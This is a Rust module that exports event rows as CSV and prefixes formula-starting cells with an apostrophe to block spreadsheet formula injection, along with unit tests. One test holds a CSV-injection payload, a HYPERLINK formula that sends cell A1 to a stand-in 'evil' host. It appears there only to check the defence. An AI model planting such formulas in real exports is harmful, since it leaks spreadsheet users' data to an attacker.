//! Rows as CSV (RFC 4180), with a head. What has parts of its own, such as attributes, is JSON in its cell.
//!
//! Texts come from whoever may send an event, and a spreadsheet takes what begins with one of `= + - @` for a formula: those have an
//! apostrophe in front, which makes it text.

use csv::{Terminator, Writer, WriterBuilder};
use serde::Serialize;
use serde_json::Value;

use crate::refusal::Refusal;

/// The columns of all rows, and of one that is not among them.
pub(super) fn table<R: Serialize>(columns: &[&str], rows: &[R], last: Option<Value>) -> Result<Vec<u8>, Refusal> {
    let mut writer = writer();
    writer.write_record(columns).map_err(broken)?;
    for row in rows {
        let row = serde_json::to_value(row).map_err(broken)?;
        writer.write_record(cells(columns, &row)).map_err(broken)?;
    }
    if let Some(row) = last {
        writer.write_record(cells(columns, &row)).map_err(broken)?;
    }
    writer.into_inner().map_err(broken)
}

/// The head of a table.
///
/// # Errors
/// When it cannot be written: a mistake in the program.
pub fn csv_head(columns: &[&str]) -> Result<Vec<u8>, Refusal> {
    table::<Value>(columns, &[], None)
}

/// One line of it.
///
/// # Errors
/// As of [`csv_head`].
pub fn csv_line(columns: &[&str], row: &Value) -> Result<Vec<u8>, Refusal> {
    let mut writer = writer();
    writer.write_record(cells(columns, row)).map_err(broken)?;
    writer.into_inner().map_err(broken)
}

fn writer() -> Writer<Vec<u8>> {
    WriterBuilder::new().terminator(Terminator::CRLF).from_writer(Vec::new())
}

fn cells<'a>(columns: &'a [&str], row: &'a Value) -> impl Iterator<Item = String> + 'a {
    columns.iter().map(|column| cell(row.get(column)))
}

/// What formulas begin with, also behind what is not seen.
const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn cell(value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(text)) if text.starts_with(FORMULA) => format!("'{text}"),
        Some(Value::String(text)) => text.clone(),
        Some(other) => other.to_string(),
    }
}

fn broken(error: impl std::fmt::Display) -> Refusal {
    Refusal::Broken(format!("writing CSV: {error}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_are_quoted_where_they_have_to_be() {
        let rows = [
            serde_json::json!({"a": "x, \"y\"\nz", "b": null, "c": {"k": 1}, "d": 0.5}),
            serde_json::json!({"a": "", "c": {}, "d": true, "not a column": 1}),
        ];
        let text = String::from_utf8(table(&["a", "b", "c", "d"], &rows, None).unwrap()).unwrap();
        assert_eq!(text, "a,b,c,d\r\n\"x, \"\"y\"\"\nz\",,\"{\"\"k\"\":1}\",0.5\r\n,,{},true\r\n");
    }

    #[test]
    fn a_text_of_a_stranger_is_no_formula() {
        for (value, expected) in [
            (serde_json::json!("=HYPERLINK(\"http://evil/?\"&A1)"), "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\"\r\n"),
            (serde_json::json!("+1"), "'+1\r\n"),
            (serde_json::json!("-1"), "'-1\r\n"),
            (serde_json::json!("@SUM(A1)"), "'@SUM(A1)\r\n"),
            (serde_json::json!("a=b"), "a=b\r\n"),
            // Numbers are none.
            (serde_json::json!(-1.5), "-1.5\r\n"),
        ] {
            let line = csv_line(&["a"], &serde_json::json!({"a": value})).unwrap();
            assert_eq!(String::from_utf8(line).unwrap(), expected);
        }
    }
}
